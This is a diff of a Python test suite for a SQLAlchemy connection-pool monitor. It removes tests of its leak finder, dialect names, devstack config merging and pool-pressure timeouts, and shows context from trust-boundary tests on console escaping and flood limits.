-        # counters alone wait for the events to stop: Sender._fold_batch)
-        row = daemon.wait_row("asyncapp.py", procs=True, nproc=1, conn=conn,
-                              ckout=ckout, ckout_total=3 + 3 * 20)
-        assert [(p["pid"], p["limit"]) for p in row["procs"]] == [(pid, 6)]
-    finally:
-        app.stop()
-
-
-# ---------------------------------------------------------------------------
-# The leak finder in threads, pooled threads, greenlets and tasks; the
-# dialect names
-# ---------------------------------------------------------------------------
-
-# (tests of the leak finder's truth go here)
-
-# Each of these programs sets its holders up, prints "ready" and waits; the
-# daemon then tells what each connection held past a second (the
-# leak_daemon's hold_warn_seconds) is.  What the console's drill-down, the
-# snapshot's long holders and its sites' long holders show is one text.
-
-THREADS_SCRIPT = r"""
-import concurrent.futures, json, os, sys, threading, time
-import sqlalchemy as sa
-
-engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
-kept = []
-
-def exited(thread):
-    # Wait until a joined thread's OS thread is gone: only then may the C
-    # library give its stack, and so its ident, to another thread.
-    for _ in range(500):
-        if not os.path.exists(f"/proc/self/task/{thread.native_id}"):
-            return
-        time.sleep(0.01)
-
-def leak_and_end():
-    kept.append(engine.connect())   # ENDED-SITE
-
-def query_slowly():
-    with engine.connect() as conn:   # SLOW-SITE
-        conn.execute(sa.text("SELECT SLEEP(600)"))   # SLOW-HELD
-
-def leak_on_the_pool():
-    kept.append(engine.connect())   # POOLED-SITE
-
-def other_work():
-    time.sleep(600)   # OTHER-WORK
-
-def leak_before_reuse():
-    kept.append(engine.connect())   # REUSED-SITE
-
-def idle(release):
-    release.wait()   # IDLE
-
-ended = threading.Thread(target=leak_and_end)
-ended.start()
-ended.join()
-threading.Thread(target=query_slowly, daemon=True).start()
-pool = concurrent.futures.ThreadPoolExecutor(1)
-pool.submit(leak_on_the_pool).result()
-pool.submit(other_work)
-gone = threading.Thread(target=leak_before_reuse)
-gone.start()
-gone.join()
-exited(gone)
-# A new thread the OS gives the ended one's ident, running other code (the
-# threads that get other idents stay, so that their stacks are not the
-# ones handed out again).
-for _ in range(50):
-    reused = threading.Thread(target=idle, args=(threading.Event(),),
-                              daemon=True)
-    reused.start()
-    if reused.ident == gone.ident:
-        break
-print("ready", reused.ident == gone.ident, flush=True)
-time.sleep(600)
-"""
-
-GEVENT_SCRIPT = r"""
-from gevent import monkey
-monkey.patch_all()
-import json, sys
-import gevent
-import sqlalchemy as sa
-
-engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
-kept = []
-
-def query_slowly():
-    with engine.connect() as conn:   # GREEN-SLOW-SITE
-        conn.execute(sa.text("SELECT SLEEP(600)"))   # GREEN-SLOW-HELD
-
-def leak_and_end():
-    kept.append(engine.connect())   # GREEN-ENDED-SITE
-
-slow = gevent.spawn(query_slowly)
-gevent.spawn(leak_and_end).join()
-gevent.sleep(0.5)
-print("ready", slow.dead, flush=True)
-gevent.sleep(600)
-"""
-
-EVENTLET_SCRIPT = GEVENT_SCRIPT.replace(
-    "from gevent import monkey\nmonkey.patch_all()\n",
-    "import eventlet\neventlet.monkey_patch()\n").replace(
-    "import gevent\n", "").replace("gevent.", "eventlet.").replace(
-    "eventlet.spawn(leak_and_end).join()", "eventlet.spawn(leak_and_end).wait()")
-
-ASYNCIO_SCRIPT = r"""
-import asyncio, json, sys
-import sqlalchemy as sa
-from sqlalchemy.ext.asyncio import create_async_engine
-
-kept = []
-
-async def handler(engine):
-    async with engine.connect() as conn:   # TASK-SITE
-        await conn.execute(sa.text("SELECT 1"))
-        await asyncio.sleep(600)   # TASK-HELD
-
-async def leak_and_end(engine):
-    kept.append(await engine.connect())   # TASK-ENDED-SITE
-
-async def main():
-    engine = create_async_engine(sys.argv[1], **json.loads(sys.argv[2]))
-    holder = asyncio.create_task(handler(engine), name="holder-1")
-    await asyncio.create_task(leak_and_end(engine), name="leaker-1")
-    await asyncio.sleep(0.5)
-    print("ready", holder.done(), flush=True)
-    await asyncio.sleep(600)
-
-asyncio.run(main())
-"""
-
-
-class ScriptApp(App):
-    """A program that sets itself up, says "ready ..." and waits."""
-
-    def __init__(self, tmp_path, source: str, url: str, progname: str,
-                 **options: Any):
-        self.source = source
-        super().__init__(tmp_path, url, progname, **options)
-        ready = readable([self.proc.stdout], 60)
-        line = self.proc.stdout.readline() if ready else ""
-        if not line.startswith("ready"):
-            self.stop()   # a program that never started is not left behind
-            raise AssertionError(f"{progname} did not start: {line!r}\n"
-                                 f"{self.log.read_text()[-4000:]}")
-        self.said = line.split()[1:]
-
-
-def mariadb_leak_url(daemon: Daemon, driver: str = "pymysql") -> str:
-    from sqlalchemy.engine import make_url
-    require_database(MYSQL_URL)
-    return make_url(MYSQL_URL).set(drivername=f"mysql+{driver}").\
-        update_query_dict({"plugin": "connmon", "connmon_service": "test",
-                           "connmon_config": str(daemon.config)}).\
-        render_as_string(hide_password=False)
-
-
-def verdicts(daemon: Daemon, app: App, expected: Dict[str, str]
-             ) -> Dict[str, str]:
-    """Wait until each long holder of ``app`` (by site) reads as
-    ``expected``, the same in the process's long holders and in its row's
-    sites; return what they read last."""
-    seen: Dict[str, str] = {}
-
-    def read() -> bool:
-        row = daemon.row(app.progname, procs=True)
-        if not row or not row["procs"]:
-            return False
-        (proc,) = row["procs"]
-        seen.clear()
-        seen.update((h["site"], h["held_at"]) for h in proc["long_holders"])
-        by_site = {site["site"]: sorted(h["held_at"] for h in
-                                        site["long_holders"])
-                   for site in row["sites"]}
-        return seen == expected and by_site == {
-            site: [text] for site, text in expected.items()}
-    try:
-        wait_until(read, 30, "the long holders' verdicts")
-    except AssertionError:
-        raise AssertionError(f"long holders read {seen}, expected "
-                             f"{expected}") from None
-    return seen
-
-
-def place(app: App, marker: str, function: str, source: str) -> str:
-    return f"{app.proc.args[1]}:{line_of(marker, source)} in {function}"
-
-
-def test_leak_finder_in_plain_and_pooled_threads(tmp_path, leak_daemon):
-    """A thread that ended: thread gone.  A thread blocked in the driver:
-    held at the application's line, not pymysql's.  A pooled thread back
-    from the leaking function, running other code: leaked.  A new thread
-    with the ended one's ident: thread gone still."""
-    app = ScriptApp(tmp_path, THREADS_SCRIPT, mariadb_leak_url(leak_daemon),
-                    "threads.py", pool_size=10)
-    try:
-        assert app.said == ["True"], "the OS did not reuse the ident"
-        at = functools.partial(place, app, source=THREADS_SCRIPT)
-        verdicts(leak_daemon, app, {
-            at("ENDED-SITE", "leak_and_end"): "thread gone",
-            at("SLOW-SITE", "query_slowly"): at("SLOW-HELD", "query_slowly"),
-            at("POOLED-SITE", "leak_on_the_pool"): "leaked",
-            at("REUSED-SITE", "leak_before_reuse"): "thread gone"})
-    finally:
-        app.stop()
-
-
-@pytest.mark.parametrize("runtime", ["gevent", "eventlet"])
-def test_leak_finder_in_greenlets(tmp_path, leak_daemon, runtime):
-    """A greenlet waiting for a slow query is held at its line, however
-    long; one that ended without returning its connection is gone."""
-    source = GEVENT_SCRIPT if runtime == "gevent" else EVENTLET_SCRIPT
-    app = ScriptApp(tmp_path, source, mariadb_leak_url(leak_daemon),
-                    f"{runtime}_app.py", pool_size=10)
-    try:
-        assert app.said == ["False"]   # the slow one lives
-        at = functools.partial(place, app, source=source)
-        verdicts(leak_daemon, app, {
-            at("GREEN-SLOW-SITE", "query_slowly"): at(
-                "GREEN-SLOW-HELD", "query_slowly"),
-            at("GREEN-ENDED-SITE", "leak_and_end"): "thread gone"})
-    finally:
-        app.stop()
-
-
-def test_leak_finder_in_asyncio_tasks(tmp_path, leak_daemon):
-    """An asyncio engine's checkout sites are the awaiting coroutines'
-    lines; a task holding its connection is held at the line it awaits
-    at, a task done without returning it is gone; both name the task."""
-    app = ScriptApp(tmp_path, ASYNCIO_SCRIPT,
-                    mariadb_leak_url(leak_daemon, "aiomysql"), "tasks.py",
-                    pool_size=10)
-    try:
-        assert app.said == ["False"]
-        at = functools.partial(place, app, source=ASYNCIO_SCRIPT)
-        verdicts(leak_daemon, app, {
-            at("TASK-SITE", "handler"):
-                at("TASK-HELD", "handler") + " (task holder-1)",
-            at("TASK-ENDED-SITE", "leak_and_end"):
-                "thread gone (task leaker-1)"})
-    finally:
-        app.stop()
-
-
-
-def test_leak_finder_keeps_no_ended_holder_alive(daemon):
-    """A task that checked a connection out, returned it and ended is
-    collected with what it returned while its connection waits in the
-    pool: the leak finder knows holders weakly.  A task that ended
-    holding its connection is still "thread gone (task NAME)" once
-    collected."""
-    import asyncio
-    from sqlalchemy.ext.asyncio import create_async_engine
-    require_database(MYSQL_URL)
-    engine = create_async_engine(
-        monitored(MYSQL_URL.replace("+pymysql", "+aiomysql"), daemon,
-                  "plugin"), pool_size=2)
-
-    class Answer:   # what a handler returns (the objects may be big)
-        pass
-
-    async def handler() -> Answer:
-        async with engine.connect() as conn:
-            await conn.exec_driver_sql("SELECT 1")
-        return Answer()
-
-    async def main() -> List[bool]:
-        task = asyncio.create_task(handler())
-        refs = [weakref.ref(task), weakref.ref(await task)]
-        del task
-        await asyncio.sleep(0)   # the loop lets go of the task's wake-up
-        gc.collect()
-        alive = [ref() is not None for ref in refs]
-        await engine.dispose()
-        return alive
-
-    assert asyncio.run(main()) == [False, False]
-
-
-@pytest.mark.parametrize("name", sorted(connmon.DIALECT_ENTRY_POINTS))
-def test_dialect_classes_look_like_the_real_ones(name):
-    """Each <driver>_connmon dialect class is a subclass of the real one
-    with the real one's module and name (what SQLAlchemy's testing
-    provisioning and oslo.db key on)."""
-    from sqlalchemy.engine import make_url
-    backend, driver = name.split(".")
-    url = make_url(f"{backend}+{driver}://h/db?connmon_addr=127.0.0.1:1")
-    entry = getattr(connmon, connmon.DIALECT_ENTRY_POINTS[name])
-    ours = entry.get_dialect_cls(url)
-    real = url.set(drivername=entry.real_drivername).get_dialect()
-    assert issubclass(ours, real) and ours is not real
-    assert (ours.__module__, ours.name, ours.driver) == (
-        real.__module__, real.name, real.driver)
-    assert ours.__module__.startswith(f"sqlalchemy.dialects.")
-
-
-MARIADB_NAMES_SCRIPT = r"""
-import json, sys
-import sqlalchemy as sa
-
-engine = sa.create_engine(sys.argv[1])
-held = [engine.connect(), engine.connect()]
-version = held[0].execute(sa.text("SELECT VERSION()")).scalar()
-dialect = type(engine.dialect)
-mysqldb = sa.engine.make_url(sys.argv[1].replace("+pymysql_connmon",
-                                                 "+mysqldb_connmon"))
-real = sa.engine.make_url("mariadb+pymysql://").get_dialect()
-real_mysqldb = sa.engine.make_url("mariadb+mysqldb://").get_dialect()
-print(json.dumps([dialect.__module__ == real.__module__, engine.dialect.name,
-                  engine.dialect.is_mariadb, version,
-                  issubclass(dialect, real), issubclass(
-                      mysqldb.get_dialect(), real_mysqldb),
-                  mysqldb.get_dialect().__module__ == real_mysqldb.__module__,
-                  mysqldb.get_dialect().name]), flush=True)
-sys.stdin.read()
-"""
-
-
-def test_mariadb_names_against_real_mariadb(tmp_path, daemon):
-    """mariadb+pymysql_connmon and mariadb+mysqldb_connmon, registered as
-    ``python connmon.py --install-entry-points`` registers them (pip does
-    the same from setup.py): the real MariaDB dialects, monitored."""
-    require_database(MYSQL_URL)
-    site = tmp_path / "site"
-    site.mkdir()
-    result = subprocess.run(
-        [sys.executable, os.path.join(HERE, "connmon.py"),
-         "--install-entry-points", "--target", str(site)],
-        cwd=tmp_path, env=CHILD_ENV, capture_output=True, text=True,
-        timeout=60)
-    assert result.returncode == 0, result.stderr
-    from sqlalchemy.engine import make_url
-    url = make_url(MYSQL_URL).set(
-        drivername="mariadb+pymysql_connmon").update_query_dict(
-            {"connmon_addr": daemon.address}).render_as_string(
-                hide_password=False)
-    script = tmp_path / "mariadb_names.py"
-    script.write_text(MARIADB_NAMES_SCRIPT)
-    env = dict(CHILD_ENV, PYTHONPATH=os.pathsep.join(
-        [str(site), CHILD_ENV["PYTHONPATH"]]))
-    app = subprocess.Popen([sys.executable, str(script), url], cwd=tmp_path,
-                           env=env, text=True, stdin=subprocess.PIPE,
-                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-    try:
-        line = app.stdout.readline()
-        assert line, app.stderr.read()
-        same_module, name, is_mariadb, version, *rest = json.loads(line)
-        assert (same_module, name, is_mariadb) == (True, "mariadb", True)
-        assert "MariaDB" in version
-        assert rest == [True, True, True, "mariadb"]   # subclasses; mysqldb
-        daemon.wait_row("mariadb_names.py", nproc=1, conn=2, ckout=2)
-    finally:
-        app.kill()
-        app.wait(10)
-
-# devstack's merge of a local.conf [[post-config|...]] value into a service's
-# config file, in bash as devstack runs it (inc/meta-config's
-# merge_config_file, inc/ini-config's iniset): its awk prints
-# 'iniset FILE SECTION OPTION "VALUE"' lines that are read (without -r) and
-# eval'ed; iniset puts the value into a sed command, escaped as each era of
-# devstack escapes it.
-DEVSTACK_ESCAPES = {
-    "2025 on": r"""value=$(echo $value | sed -e 's/\\/\\\\/g' -e 's/&/\\&/g')""",
-    "2022 to 2025": r"""value=$(echo $value | sed -e 's/&/\\&/g')""",
-    "before 2022": "",
-}
-DEVSTACK_MERGE = r"""
-function iniset {
-    local file=$1 section=$2 option=$3 value=$4
-    ESCAPE
-    if ! grep -q "^\[$section\]" "$file" 2>/dev/null; then
-        echo -e "\n[$section]" >> "$file"
-    fi
-    sed -i -e "/^\[$section\]/ a\\
-$option = $value
-" "$file"
-}
-while read a; do eval "$a"; done
-"""
-
-
-def readme_devstack_connections() -> List[Tuple[str, str, str]]:
-    """(config variable, section, URL) of each connection line of the
-    devstack recipe of docs/openstack.txt."""
-    readme = pathlib.Path(HERE, "docs", "openstack.txt").read_text()
-    recipe = readme.split("Using with devstack\n", 1)[1].split(
-        "\nWhat must end up", 1)[0]
-    found, conf, section = [], "", ""
-    for line in recipe.splitlines():
-        line = line.strip()
-        if line.startswith("[[post-config|"):
-            conf = line[len("[[post-config|"):-2]
-        elif line.startswith("["):
-            section = line[1:-1]
-        elif line.startswith("connection ="):
-            found.append((conf, section, line.split("=", 1)[1].strip()))
-    return found
-
-
-@pytest.mark.parametrize("era", sorted(DEVSTACK_ESCAPES))
-def test_devstack_recipe_lands_as_intended(tmp_path, era):
-    r"""Every URL of the README's devstack section, merged by devstack of
-    each era (the README's "\\&" for each "&" before 2022), lands in the
-    service's config as a URL that SQLAlchemy parses to the intended
-    database, charset and connmon service."""
-    from sqlalchemy.engine import make_url
-    connections = readme_devstack_connections()
-    assert [(conf, section, make_url(url).database) for conf, section, url
-            in connections] == [
-        ("$NOVA_CONF", "database", "nova"),
-        ("$NOVA_CONF", "api_database", "nova_api"),
-        ("$NEUTRON_CONF", "database", "neutron"),
-        ("$KEYSTONE_CONF", "database", "keystone"),
-        ("$CINDER_CONF", "database", "cinder"),
-        ("$GLANCE_API_CONF", "database", "glance")]
-    script = tmp_path / "merge.sh"
-    script.write_text(DEVSTACK_MERGE.replace("ESCAPE", DEVSTACK_ESCAPES[era]))
-    for number, (conf, section, url) in enumerate(connections):
-        if era == "before 2022":
-            url = url.replace("&", "\\\\&")   # as README says for old ones
-        conf_file = tmp_path / f"{number}.conf"
-        conf_file.write_text("")
-        merged = subprocess.run(
-            ["bash", str(script)], input=f'iniset {conf_file} {section} '
-            f'connection "{url}"\n', capture_output=True, text=True,
-            timeout=30)
-        assert merged.returncode == 0, merged.stderr
-        parser = configparser.ConfigParser(interpolation=None)
-        parser.read_string(conf_file.read_text())
-        landed = make_url(parser[section]["connection"])
-        assert landed.drivername == "mysql+pymysql_connmon"
-        assert landed.database == make_url(url).database
-        assert dict(landed.query) == {"charset": "utf8",
-                                      "connmon_service": "default"}
-        assert connmon.url_settings(landed.query) == {
-            "connmon_service": "default"}
-
-
-def test_devstack_old_escape_breaks_current_devstack(tmp_path):
-    r"""Why the recipe changed: "\\&" merged by current devstack lands as
-    "\&", and the charset becomes "utf8\"."""
-    from sqlalchemy.engine import make_url
-    script = tmp_path / "merge.sh"
-    script.write_text(DEVSTACK_MERGE.replace(
-        "ESCAPE", DEVSTACK_ESCAPES["2025 on"]))
-    conf_file = tmp_path / "nova.conf"
-    conf_file.write_text("")
-    url = ("mysql+pymysql_connmon://root:sa@127.0.0.1/nova?charset=utf8"
-           "\\\\&connmon_service=default")
-    subprocess.run(["bash", str(script)], check=True, timeout=30,
-                   input=f'iniset {conf_file} database connection "{url}"\n',
-                   text=True)
-    parser = configparser.ConfigParser(interpolation=None)
-    parser.read_string(conf_file.read_text())
-    landed = make_url(parser["database"]["connection"])
-    assert landed.query["charset"] == "utf8\\"
-
-# ---------------------------------------------------------------------------
-# Trust boundaries: peers, impersonation, shares, hostile text
-# ---------------------------------------------------------------------------
-
-# (tests of the trust boundaries go here)
 
 def raw_client(port: int, host: str = "127.0.0.1",
                source: Optional[str] = None) -> tuple:
@@ -5879,36 +8347,6 @@ def test_databases_at_every_bound_fit_the_reply():
     assert len(json.dumps(part, separators=(",", ":"))) <= 45 << 20
 
 
-@hypothesis.settings(max_examples=300, deadline=None)
-@hypothesis.given(length=st.integers(1, 6), ticks=st.lists(st.dictionaries(
-    st.tuples(st.sampled_from(["h1", "h2"]), st.sampled_from(["p1", "p2"])),
-    st.integers(0, 70_000)), max_size=15))
-def test_history_sums_the_samples_of_the_rows_asked_for(length, ticks):
-    """A "history" reply: the samples of the rows asked for (a program on
-    one host, or on every host) summed, oldest first, over the last
-    samples any of them has (a row forgotten starts again); a count above
-    65,535 kept as 65,535.  Summed from a copy of those rows."""
-    history = connmon_server.History(length)
-    since: Dict[tuple, int] = {}   # row -> the sample it was first in
-    for tick, counts in enumerate(ticks):
-        since = {key: since.get(key, tick) for key in counts}
-        rows = {key: connmon_server.ProgramRow(*key) for key in counts}
-        for key, row in rows.items():
-            row.conn, row.ckout = counts[key], counts[key] // 3
-        history.record(rows)
-    for progname, hostname in itertools.product(["p1", "p2"],
-                                                [None, "h1", "h2"]):
-        picked = [key for key in since if key[1] == progname
-                  and hostname in (None, key[0])]
-        kept = min(length, max((len(ticks) - since[key] for key in picked),
-                               default=0))
-        expected = tuple([sum(min(share(ticks[tick][key]), 65535)
-                              for key in picked if since[key] <= tick)
-                          for tick in range(len(ticks) - kept, len(ticks))]
-                         for share in (lambda n: n, lambda n: n // 3))
-        assert history.picked(progname, hostname).sums() == expected
-
-
 def test_trust_silent_flood_leaves_room_for_apps_consoles_and_peers(
         tmp_path, apps):
     two = TwoNodes(tmp_path, "max_clients: 3\nmax_clients_per_address: 3\n")
@@ -6178,33 +8616,6 @@ def test_trust_console_escapes_what_it_prints():
     assert r"s.py:1 in \x1b[31mf" in text
 
 
-@pytest.mark.parametrize("size", [(80, 24), (160, 30)])
-def test_console_draws_one_cell_a_character(tmp_path, terminal, size):
-    """Wide characters (two cells) and combining marks (none) are drawn
-    escaped, so the columns stay in line and "e\u0301vil" cannot pass
-    for another name."""
-    daemon = Daemon(tmp_path)
-    apps = []
-    try:
-        for host, prog in (("ctl1", "nova-api"), ("\u30db\u30b9\u30c8",
-                                                  "e\u0301vil")):
-            app = SyntheticApp(daemon, host, prog)
-            app.event(connmon.CONNECT, 1, 1)
-            app.send()
-            apps.append(app)
-        term = terminal("-H", daemon.address, cols=size[0], lines=size[1])
-        rows = term.wait_for(lambda t: len(t.rows()) == 2 and t.rows(),
-                             "the two rows")
-        ends = {len(term.display[y].rstrip()) for y, _ in rows.values()}
-        assert len(ends) == 1, term.text   # the columns in line
-        assert r"\u30db\u30b9\u30c8" in term.text
-        assert r"e\u0301vil" in term.text
-    finally:
-        for app in apps:
-            app.conn.close()
-        daemon.stop()
-
-
 def test_trust_metrics_stay_on_loopback_or_need_the_token(tmp_path):
     port = free_port()
     token = secret_file(tmp_path, "metrics.token", "scrape-T0ken")
@@ -6313,1404 +8724,6 @@ def test_fuzz_peer_role_and_nested_messages(tmp_path, apps):
               "refused")
     finally:
         daemon.stop()
-
-
-# ---------------------------------------------------------------------------
-# Pool pressure and databases
-# ---------------------------------------------------------------------------
-
-# (tests of pool pressure go here)
-
-# The application of these tests: engines (one per URL; the first is the
-# one "crowd" uses), on threads or, with mode "asyncio", on tasks of an
-# event loop run by a thread of its own.  "crowd N HOLD" starts N threads
-# (tasks) that each check out a connection and hold it HOLD seconds,
-# timing their own wait; "use I" checks out and returns a connection of
-# engine I, answering the seconds it waited (a process is attached from
-# its first use of a pool); "outcomes" answers once all are done, with each
-# one's outcome and seconds waited, as JSON.
-PRESSURE_APP_SCRIPT = r'''
-import asyncio, json, sys, threading, time
-import sqlalchemy as sa
-from sqlalchemy.ext.asyncio import create_async_engine
-
-urls, options = json.loads(sys.argv[1]), json.loads(sys.argv[2])
-mode = options.pop("mode", "threads")
-outcomes, held, started = [], [], []
-
-def answer(*words):
-    print(*words, flush=True)
-
-if mode == "asyncio":
-    loop = asyncio.new_event_loop()
-    threading.Thread(target=loop.run_forever, daemon=True).start()
-    engines = [create_async_engine(url, **options) for url in urls]
-
-    async def worker(hold):
-        began = time.monotonic()
-        try:
-            conn = await engines[0].connect()
-        except sa.exc.TimeoutError:
-            outcomes.append(["timeout", time.monotonic() - began])
-            return
-        outcomes.append(["ok", time.monotonic() - began])
-        await asyncio.sleep(hold)
-        await conn.close()
-
-    def crowd(n, hold):
-        for _ in range(n):
-            started.append(asyncio.run_coroutine_threadsafe(worker(hold),
-                                                            loop))
-
-    def hold_one(index):
-        async def connect():
-            conn = await engines[index].connect()
-            await conn.exec_driver_sql("SELECT 1")
-            return conn
-        held.append(asyncio.run_coroutine_threadsafe(connect(),
-                                                     loop).result(30))
-
-    def use(index):
-        async def connect_and_close():
-            began = time.monotonic()
-            conn = await engines[index].connect()
-            waited = time.monotonic() - began
-            await conn.close()
-            return waited
-        return asyncio.run_coroutine_threadsafe(connect_and_close(),
-                                                loop).result(30)
-else:
-    engines = [sa.create_engine(url, **options) for url in urls]
-
-    def worker(hold):
-        began = time.monotonic()
-        try:
-            conn = engines[0].connect()
-        except sa.exc.TimeoutError:
-            outcomes.append(["timeout", time.monotonic() - began])
-            return
-        outcomes.append(["ok", time.monotonic() - began])
-        time.sleep(hold)
-        conn.close()
-
-    def crowd(n, hold):
-        for _ in range(n):
-            thread = threading.Thread(target=worker, args=(hold,))
-            thread.start()
-            started.append(thread)
-
-    def hold_one(index):
-        conn = engines[index].connect()
-        conn.exec_driver_sql("SELECT 1")
-        held.append(conn)
-
-    def use(index):
-        began = time.monotonic()
-        conn = engines[index].connect()
-        waited = time.monotonic() - began
-        conn.close()
-        return waited
-
-for line in sys.stdin:
-    cmd, *args = line.split()
-    if cmd == "crowd":
-        crowd(int(args[0]), float(args[1]))
-    elif cmd == "hold":
-        hold_one(int(args[0]))
-    elif cmd == "use":   # a process is attached from its first pool use
-        answer("ok", use(int(args[0])))
-        continue
-    elif cmd == "outcomes":
-        for job in started:
-            (job.result if mode == "asyncio" else job.join)(30)
-        answer("ok", json.dumps(outcomes, separators=(",", ":")))
-        continue
-    answer("ok")
-'''
-
-
-class PressureApp(App):
-    source = PRESSURE_APP_SCRIPT
-
-
-@pytest.fixture
-def pressure_apps(apps):
-    """Start a PressureApp with engines for ``urls``."""
-    def start(urls: List[str], progname: str, **options: Any) -> App:
-        return apps(json.dumps(urls), progname, app_class=PressureApp,
-                    **options)
-    return start
-
-
-def plain_table(daemon: Daemon, *args: str) -> str:
-    """connmon --once, the plain table."""
-    return subprocess.run(
-        [sys.executable, "-m", "connmon_console", "--once", "-H",
-         daemon.address, *args], cwd=HERE, env=CHILD_ENV,
-        capture_output=True, text=True, timeout=30, check=True).stdout
-
-
-def pressure_daemon(tmp_path, extra_config: str = "") -> Tuple[Daemon, int]:
-    """A daemon serving /metrics too; and its metrics port."""
-    port = free_port()
-    return Daemon(tmp_path, extra_config=f"metrics_port: {port}\n"
-                  f"metrics_bind: 127.0.0.1\n{extra_config}"), port
-
-
-PRESSURE_BACKENDS = {
-    "mysql-threads": (MYSQL_URL, "threads"),
-    "postgresql-threads": (POSTGRESQL_URL, "threads"),
-    "mysql-asyncio": (MYSQL_URL.replace("+pymysql", "+aiomysql"), "asyncio"),
-    "postgresql-asyncio": (
-        POSTGRESQL_URL.replace("+psycopg2", "+asyncpg"), "asyncio"),
-}
-
-
-@pytest.mark.parametrize("backend", list(PRESSURE_BACKENDS))
-def test_waiting_timeouts_and_wait_times_as_the_app_saw_them(
-        backend, tmp_path, pressure_apps):
-    """pool_size=2, max_overflow=0, pool_timeout=1 and six threads (or
-    tasks) that each want a connection for 3 s: two get one, four wait
-    and time out.  The daemon shows them waiting while they wait, counts
-    the timeouts the app counted, and the waits the app timed."""
-    url, mode = PRESSURE_BACKENDS[backend]
-    require_database(url.replace("+aiomysql", "+pymysql")
-                     .replace("+asyncpg", "+psycopg2"))
-    daemon, metrics_port = pressure_daemon(tmp_path)
-    try:
-        name = f"crowd-{mode}.py"
-        app = pressure_apps([f"{url}?plugin=connmon&connmon_addr="
-                             f"{daemon.address}"], name, mode=mode,
-                            pool_size=2, max_overflow=0, pool_timeout=1)
-        warm_up = float(app("use 0")[0])   # one wait before the crowd's
-        daemon.wait_row(name, nproc=1)
-        crowd_began = time.monotonic()
-        app("crowd 6 3")
-
-        def waiting() -> Optional[Tuple[dict, dict]]:
-            snapshot = daemon.snapshot()
-            (row,) = [r for r in snapshot["rows"] if r["progname"] == name]
-            return (snapshot, row) if row["waiting"] >= 3 else None
-        snapshot, row = wait_until(waiting, what="checkouts waiting")
-        assert time.monotonic() - crowd_began < 1.0, "seen only after the " \
-            "timeouts: the waits were not seen as they happened"
-        assert 10 <= row["longest_wait_ms"] <= (
-            time.monotonic() - crowd_began) * 1000
-        assert snapshot["waiting"] == row["waiting"]
-        (server,) = snapshot["databases"]
-        assert server["waiting"] == row["waiting"]
-        # The timeouts, then the last second's longest wait: about 1 s.
-        row = wait_until(lambda: (lambda r: r if r["timeouts_total"] == 4 and (
-            r["wait_max_ms"] or 0) >= 900 else None)(daemon.row(name)), 5,
-            "four timeouts and the waits' maximum")
-        wait_max_ms = row["wait_max_ms"]
-        table = plain_table(daemon)
-        assert re.search(rf"{re.escape(name)}.*\n    waiting \d+ \(max "
-                         r"\d+.*timeouts \d+/s \(4\)", table), table
-
-        outcomes = json.loads(app("outcomes", timeout=60)[0])
-        timeouts = [waited for outcome, waited in outcomes
-                    if outcome == "timeout"]
-        assert len(outcomes) == 6 and len(timeouts) == 4
-        row = daemon.wait_row(name, timeouts_total=4, waiting=0, ckout=0,
-                              waits_total=7)
-        assert row["maxwaiting"] >= 4
-        assert daemon.snapshot()["max_waiting"] >= 4
-        # connmon times the wait inside the pool, the app around it: never
-        # longer, and short of it only by the engine's own few steps.
-        app_waits = warm_up + sum(waited for _, waited in outcomes)
-        assert app_waits - 0.05 * 7 <= row["wait_seconds_total"] <= app_waits
-        assert row["connects_total"] >= 2 and row["connect_seconds_total"] > 0
-        assert wait_max_ms <= round(max(waited for _, waited in outcomes)
-                                    * 1000, 1)   # (as the snapshot rounds)
-
-        # /metrics: the OpenTelemetry names, equal to the snapshot.
-        snapshot = daemon.snapshot()
-        samples = metric_samples(http_get(metrics_port, "/metrics")[2])
-        assert samples == expected_samples(snapshot)
-        host = socket.gethostname()
-        assert samples[("db_client_connection_timeouts_total", host,
-                        name)] == 4
-        assert samples[("db_client_connection_wait_time_seconds_count",
-                        host, name)] == 7
-        assert samples[("db_client_connection_pending_requests", host,
-                        name)] == 0
-        assert samples[("connmon_max_pending_requests", host, name)] >= 4
-    finally:
-        daemon.stop()
-
-
-def test_failing_pre_ping_counts_as_an_invalidation(daemon, apps):
-    require_database(MYSQL_URL)
-    app = apps(monitored(MYSQL_URL, daemon), "preping.py", pool_size=2,
-               pool_pre_ping=True)
-    app("hold 1")
-    (thread_id,) = app("backend_pid")
-    app("release 1")
-    daemon.wait_row("preping.py", conn=1, ckout=0, invalidations_total=0)
-    import sqlalchemy as sa
-    admin = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
-    with admin.connect() as conn:
-        conn.execute(sa.text(f"KILL CONNECTION {int(thread_id)}"))
-    app("query 1")   # the pre-ping fails: invalidated, connected anew
-    row = daemon.wait_row("preping.py", conn=1, ckout=0,
-                          invalidations_total=1)
-    assert row["connect_errors_total"] == 0 and row["timeouts_total"] == 0
-    assert row["connects_total"] == 2
-    app("hold 1")
-    app("invalidate")   # Connection.invalidate(): one more
-    daemon.wait_row("preping.py", invalidations_total=2)
-
-
-def test_two_engines_to_two_databases_kept_apart(tmp_path, pressure_apps):
-    """nova's nova and nova_api: one process, engines to two databases of
-    one server (and one to another server): --procs and the databases
-    view show each pool apart, the row keeps the sums."""
-    require_database(POSTGRESQL_URL)
-    require_database(MYSQL_URL)
-    daemon = Daemon(tmp_path, extra_config=(
-        "database_servers:\n    127.0.0.1:5432 max_connections=100\n"))
-    try:
-        query = f"?plugin=connmon&connmon_addr={daemon.address}"
-        api_url = POSTGRESQL_URL.rsplit("/", 1)[0] + "/postgres"
-        app = pressure_apps([POSTGRESQL_URL + query, api_url + query,
-                             MYSQL_URL + query], "nova-like.py",
-                            pool_size=3, max_overflow=1)
-        for index in (0, 0, 1, 2):
-            app(f"hold {index}")
-        row = daemon.wait_row("nova-like.py", procs=True, conn=4, ckout=4,
-                              limit=12)
-        (proc,) = row["procs"]
-        pools = {(p["endpoint"]["backend"], p["endpoint"]["database"]):
-                 (p["conn"], p["ckout"], p["limit"]) for p in proc["pools"]}
-        assert pools == {("postgresql", "test"): (2, 2, 4),
-                         ("postgresql", "postgres"): (1, 1, 4),
-                         ("mysql", "test"): (1, 1, 4)}
-        for pool in proc["pools"]:
-            endpoint = pool["endpoint"]
-            assert endpoint["host"] == "127.0.0.1"
-            assert endpoint["port"] == {"postgresql": 5432,
-                                        "mysql": 3306}[endpoint["backend"]]
-            assert endpoint["user"] == {"postgresql": "postgres",
-                                        "mysql": "root"}[endpoint["backend"]]
